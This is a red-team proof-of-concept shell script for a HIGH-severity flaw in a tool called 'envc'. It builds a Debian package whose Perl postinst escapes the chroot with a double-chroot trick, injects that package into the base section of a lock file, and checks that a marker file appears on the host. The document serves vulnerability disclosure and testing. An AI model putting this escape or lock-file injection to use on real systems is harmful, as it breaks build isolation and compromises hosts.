#!/bin/sh
# HIGH. A lock is a list of sha256s the PR author chooses; its [base] packages are installed by
# mmdebstrap --mode=root, whose maintainer scripts run with SYS_ADMIN and SYS_CHROOT in the
# host's user namespace. A package added to [base] (served from file:, or any http mirror)
# escapes the chroot and writes /var/tmp/red-escape-proof on the host. `envc lock --check`
# calls the lock up to date.
set -eu
: "${ENVC:?}" "${ENVC_STORE:?}" "${RED:?}"
mkdir -p "$RED/evil/pkg/DEBIAN" "$RED/b" && cd "$RED/evil"
cat > pkg/DEBIAN/control <<'EOT'
Package: redteam-evil
Version: 1.0
Architecture: all
Maintainer: red <red@example.invalid>
Priority: optional
Section: misc
Description: proof that a lock's package runs with the base build's authority
EOT
cat > pkg/DEBIAN/postinst <<'EOT'
#!/usr/bin/perl
opendir(my $d, "/") or die "opendir: $!";
mkdir "/.esc";
chroot "/.esc" or die "chroot: $!";
chdir $d or die "fchdir: $!";
chdir ".." for 1..64;
chroot "." or die "chroot .: $!";
open(my $f, ">", "/var/tmp/red-escape-proof") or die "open: $!";
print $f "written on the host by redteam-evil's postinst (uid $<)\n";
close $f;
exit 0;
EOT
chmod 755 pkg/DEBIAN/postinst
dpkg-deb --root-owner-group -b pkg redteam-evil_1.0_all.deb >/dev/null
sha=$(sha256sum redteam-evil_1.0_all.deb | cut -d' ' -f1)
size=$(stat -c %s redteam-evil_1.0_all.deb)
cd "$RED/b"
sed 's/"reda"/"redb"/' ../a/env.kdl > env.kdl
python3 - "$sha" "$size" "$RED/evil" <<'EOT'
import sys
sha, size, mirror = sys.argv[1:]
t = open('../a/env.lock').read()
i = t.index('packages = [\n', t.index('[base]')) + len('packages = [\n')
entry = f'  {{ name = "redteam-evil", version = "1.0", arch = "all", size = {size}, sha256 = "{sha}", path = "redteam-evil_1.0_all.deb", mirror = "file:{mirror}" }},\n'
open('env.lock', 'w').write(t[:i] + entry + t[i:])
EOT
rm -f /var/tmp/red-escape-proof
"$ENVC" lock --check env.kdl
"$ENVC" apply --locked env.kdl >/dev/null 2>&1 || true
cat /var/tmp/red-escape-proof
